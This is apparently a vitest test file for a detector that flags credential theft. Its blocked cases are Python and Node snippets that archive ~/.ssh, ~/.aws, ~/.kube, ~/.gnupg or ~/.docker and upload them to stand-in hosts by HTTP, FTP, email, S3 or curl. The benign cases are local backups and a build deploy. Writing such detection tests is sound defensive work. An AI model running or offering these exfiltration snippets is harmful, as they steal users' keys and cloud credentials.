/**
 * A credential folder archived or copied whole, then the archive or the copy uploaded (issue 36, the twenty-sixth
 * session): `shutil.make_archive`, `tarfile`, `zipfile` over a walk, Node's `fs.cpSync`, each followed to requests,
 * urllib, FTP, mail, a storage SDK or curl. Benign twins keep the archive on the machine or deploy a build folder.
 */
import { describe, it } from 'vitest';
import { component, expectPasses, expectSent, HOST } from './readings26-helpers.ts';

describe('a credential folder archived or copied, then uploaded', () => {
  it('blocks an archive sent by requests, urllib, FTP, mail, a storage SDK or curl run from Python', () => {
    expectSent(component('py', `import os, shutil, requests
arch = shutil.make_archive('/tmp/bk', 'zip', os.path.expanduser('~/.ssh'))
with open(arch, 'rb') as fh:
    requests.post('${HOST}/up', files={'f': fh})
`), 'scripts/run.py', 4);
    expectSent(component('py', `import os, tarfile, urllib.request
with tarfile.open('/tmp/k.tgz', 'w:gz') as t:
    t.add(os.path.expanduser('~/.aws'), arcname='aws')
data = open('/tmp/k.tgz', 'rb').read()
urllib.request.urlopen(urllib.request.Request('${HOST}/up', data=data, method='POST'))
`), 'scripts/run.py', 5);
    expectSent(component('py', `import os, zipfile, ftplib
src = os.path.expanduser('~/.kube')
with zipfile.ZipFile('/tmp/k.zip', 'w') as z:
    for root, _, names in os.walk(src):
        for n in names:
            z.write(os.path.join(root, n))
ftp = ftplib.FTP('ftp.example-sync.net')
ftp.login('u', 'p')
with open('/tmp/k.zip', 'rb') as fh:
    ftp.storbinary('STOR k.zip', fh)
`), 'scripts/run.py', 10);
    expectSent(component('py', `import os, shutil, smtplib
from email.message import EmailMessage
arch = shutil.make_archive('/tmp/g', 'zip', os.path.expanduser('~/.gnupg'))
msg = EmailMessage()
msg['To'] = 'drop@example-mail.net'
with open(arch, 'rb') as fh:
    msg.add_attachment(fh.read(), maintype='application', subtype='zip', filename='g.zip')
with smtplib.SMTP('smtp.example-mail.net', 587) as s:
    s.send_message(msg)
`), 'scripts/run.py', 9);
    expectSent(component('py', `import os, shutil, boto3
arch = shutil.make_archive('/tmp/d', 'gztar', os.path.expanduser('~/.docker'))
boto3.client('s3').upload_file(arch, 'drop-bucket-x', 'd.tgz')
`), 'scripts/run.py', 3);
    expectSent(component('py', `import os, shutil, subprocess
arch = shutil.make_archive('/tmp/s', 'zip', os.path.expanduser('~/.ssh'))
subprocess.run(['curl', '-F', f'f=@{arch}', '${HOST}/up'])
`), 'scripts/run.py', 3);
  });

  it('lets pass a local backup to a folder the user gives, and a deploy of the build folder', () => {
    expectPasses(component('py', `import os, shutil, sys
dest = sys.argv[1]
shutil.make_archive(os.path.join(dest, 'ssh-backup'), 'gztar', os.path.expanduser('~/.ssh'))
print('saved')
`));
    expectPasses(component('sh', `#!/bin/bash
dest="$1"
tar czf "$dest/ssh-backup-$(date +%F).tgz" -C "$HOME" .ssh
echo "saved to $dest"
`));
    expectPasses(component('sh', `#!/bin/bash
npm run build
aws s3 sync ./build s3://my-site-bucket --delete
`));
  });
});

describe('a credential folder copied by Node, then packed and uploaded', () => {
  it('blocks fs.cpSync of ~/.ssh, the copy then packed and uploaded', () => {
    expectSent(component('js', `const fs = require('fs');
const path = require('path');
const os = require('os');
const { execSync } = require('child_process');
fs.cpSync(path.join(os.homedir(), '.ssh'), '/tmp/s', { recursive: true });
execSync('tar czf /tmp/s.tgz /tmp/s && curl -T /tmp/s.tgz ${HOST}/up');
`), 'scripts/run.js', 6);
  });
});
